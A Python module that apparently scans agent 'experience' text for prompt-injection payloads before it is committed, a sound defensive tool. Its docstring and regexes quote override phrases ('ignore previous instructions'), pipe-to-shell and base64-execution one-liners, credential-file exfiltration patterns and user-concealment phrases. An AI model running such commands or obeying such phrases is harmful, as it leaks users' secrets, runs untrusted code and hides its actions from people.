"""Instructions that attack the agent: the well-known prompt-injection payloads in an
experience's text.

Whatever expgit commits to ``main`` is read by every agent that loads the experiences, so
a model that obeyed an injection in a rollout must not be able to plant one. The rules
are the static ones skill scanners (Cisco's skill-scanner, Snyk's agent-scan) and the
OWASP LLM01 cheat sheet list, kept small and concrete so a lesson about security passes:

* ``instruction override``: "ignore / disregard / forget (all) previous instructions";
* ``pipe to shell``: a download command with an argument piped into a shell or an
  interpreter (``curl -fsSL https://x | sh``, ``wget -qO- x | bash``,
  ``bash <(curl x)``); the bare idiom ``curl | sh`` with no address is a topic, not a
  command, so "never run curl | sh from untrusted sources" passes;
* ``encoded execution``: base64-decoded text run (``base64 -d | sh``,
  ``eval(atob(...))``, ``exec(b64decode(...))``, ``powershell -EncodedCommand``);
* ``secret exfiltration``: a credential file (``~/.ssh``, an ``id_rsa`` key,
  ``~/.aws/credentials``, ``.env``, ``.netrc``, ``.git-credentials``...) in one sentence
  with send / upload / post / e-mail / curl...; or secrets (credentials, tokens, API
  keys, passwords) sent to an address (a URL, an e-mail address, an IP); or the
  environment piped to the network (``env | curl``);
* ``hidden characters``: Unicode tag characters (U+E0000..U+E007F, invisible text a
  model still reads), bidirectional overrides and isolates, zero-width spaces;
* ``concealment``: "do not tell the user (about this / that you ...)", "keep this secret
  from the user".

A verb-led rule (override, exfiltration, concealment) does not hold when the verb itself
is negated ("never send ~/.aws/credentials anywhere", "do not ignore the previous
instructions"): that is a lesson about the attack. A concrete pipe-to-shell or encoded
command is flagged even after "never", as scanners do: the command is the payload, and an
agent may copy it. A lesson that merely mentions credentials passes.

Every function here is pure: text in, findings out.
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass

from expgit.core.redaction.text import redact_text

_NEGATED = re.compile(r"(?:\bnever|\bnot|n't|\bno)\s+(?:\w+\s+)?$", re.I)
_SHELLS = (r"(?:sudo\s+)?(?:ba|z|da|k|c|tc|fi)?sh|python[0-9.]*(?!\s+-m\b)|perl"
           r"|ruby|node|php|iex|pwsh")
_DOWNLOAD = r"(?:curl|wget|fetch|iwr|invoke-webrequest|invoke-restmethod|irm)"
_SECRET_FILE = (
    r"(?:~/\.ssh\b|\.ssh/(?:id_\w+|authorized_keys|config)|\bid_(?:rsa|dsa|ecdsa|ed25519)"
    r"\b(?!\.pub)|(?:~/)?\.aws/(?:credentials|config)\b|~/\.aws\b|(?<![\w.])\.env\b"
    r"|\.netrc\b|\.npmrc\b|\.pypirc\b|\.git-credentials\b|\.kube/config\b"
    r"|\.docker/config\.json|~/\.gnupg\b|/etc/shadow\b|\.bash_history\b)")
_SEND = (r"(?:send|sent|sending|sends|upload\w*|post|posts|posted|posting|exfiltrat\w*"
         r"|transmit\w*|forward\w*|e-?mail\w*|leak\w*|curl|wget|scp|rsync|nc|netcat)")
_SECRETS = (r"(?:credentials?|secrets?|api[ _-]?keys?|access[ _-]?keys?|tokens?"
            r"|passwords?|passwds?|private[ _-]?keys?|ssh[ _-]?keys?|session[ _-]?cookies?)")
_ADDRESS = (r"(?:https?://|ftp://|[\w.+-]+@[\w-]+\.[\w.-]+|\b\d{1,3}(?:\.\d{1,3}){3}\b"
            r"|\bwebhook\b)")
_SENTENCE = r"[^.!?\n]{0,120}?"
_HIDDEN = re.compile("[\U000e0000-\U000e007f\u202a-\u202e\u2066-\u2069\u200b\u2060\u180e]")


@dataclass(frozen=True)
class _Rule:
    kind: str
    pattern: re.Pattern[str]
    negatable: bool  # not when the match's ``verb`` group is itself negated


def _rule(kind: str, pattern: str, negatable: bool = True) -> _Rule:
    return _Rule(kind, re.compile(pattern, re.I), negatable)


RULES: tuple[_Rule, ...] = (
    _rule("instruction override",
          r"\b(?P<verb>ignore|disregard|forget|override|bypass)\s+(?:all\s+|any\s+|the\s+"
          r"|your\s+|of\s+|everything\s+)*(?:previous|prior|above|earlier|preceding"
          r"|foregoing|system|original|developer)\s+(?:instructions?|rules|prompts?"
          r"|directions|directives|guidelines|messages|context)\b"),
    _rule("pipe to shell",
          rf"\b{_DOWNLOAD}\s+[^|\s][^|\n]*\|\s*(?:{_SHELLS})\b"
          rf"|(?:{_SHELLS})\s+<\(\s*{_DOWNLOAD}\s+\S"
          rf"|(?:{_SHELLS})\s+-c\s+[\"']?\$\(\s*{_DOWNLOAD}\s+\S", negatable=False),
    _rule("encoded execution",
          rf"base64\s+(?:-d|--decode|-D)\b[^\n]*\|\s*(?:{_SHELLS})\b"
          r"|\b(?:eval|exec)\s*\(?[^\n]{0,40}\b(?:atob|b64decode|base64)"
          r"|\bpowershell(?:\.exe)?\b[^\n]*\s-(?:e|enc|encodedcommand)\s+[A-Za-z0-9+/=]{8}",
          negatable=False),
    _rule("secret exfiltration",
          rf"\b(?P<verb>{_SEND})\b{_SENTENCE}{_SECRET_FILE}"
          rf"|{_SECRET_FILE}{_SENTENCE}\b(?P<verb2>{_SEND})\b"
          rf"|\b(?P<verb3>{_SEND})\b{_SENTENCE}\b{_SECRETS}\b{_SENTENCE}"
          rf"\b(?:to|at|into)\s+{_ADDRESS}"
          r"|\b(?:env|printenv|set)\s*\|\s*(?:curl|wget|nc|netcat)\b"),
    _rule("concealment",
          r"\b(?:do\s+not|don'?t|never)\s+(?P<verb>tell|inform|notify|alert|let)\s+(?:the\s+)?"
          r"(?:user|customer|human|operator|owner)s?\b(?:\s+know)?\s*(?:about\s+(?:this|these"
          r"|that|it)\b|that\s+you\b|what\s+you\b|[.,;:!)]|$)"
          r"|\bkeep\s+(?:this|it|these|that)\s+(?:secret|hidden|quiet)\s+from\s+(?:the\s+)?"
          r"(?:user|customer|human|operator)"
          r"|\bhide\s+(?:this|it|these|that)\s+from\s+(?:the\s+)?(?:user|customer|human)",
          negatable=False),
)


@dataclass(frozen=True)
class InjectionFinding:
    """One rule that holds: its kind and what matched (cut, escaped for printing)."""

    kind: str
    excerpt: str

    def __str__(self) -> str:
        return f"{self.kind} ({self.excerpt})"


def _excerpt(text: str) -> str:
    text = redact_text(" ".join(text.split()))[0]
    return repr(text[:60] + ("…" if len(text) > 60 else ""))


def _negated(text: str, match: re.Match[str]) -> bool:
    starts = [match.start(g) for g in ("verb", "verb2", "verb3")
              if g in match.re.groupindex and match.start(g) >= 0]
    return bool(starts) and _NEGATED.search(text[max(0, starts[0] - 30):starts[0]]) is not None


def injection_findings(text: str) -> list[InjectionFinding]:
    """The rules of :data:`RULES` (and hidden characters) that ``text`` breaks, one
    finding per kind, in the order of the rules."""
    found: list[InjectionFinding] = []
    hidden = sorted({f"U+{ord(c):04X}" for c in _HIDDEN.findall(text)})
    if hidden:
        found.append(InjectionFinding("hidden characters", ", ".join(hidden[:5])))
    # compatibility forms (full-width letters...) read as the letters they show
    plain = unicodedata.normalize("NFKC", _HIDDEN.sub("", text))
    for rule in RULES:
        for match in rule.pattern.finditer(plain):
            if rule.negatable and _negated(plain, match):
                continue
            found.append(InjectionFinding(rule.kind, _excerpt(match.group(0))))
            break
    return found


def injection_problem(text: str) -> str | None:
    """``"injection: <kind> (<excerpt>); ..."`` when ``text`` breaks a rule, else None."""
    found = injection_findings(text)
    return "injection: " + "; ".join(map(str, found)) if found else None
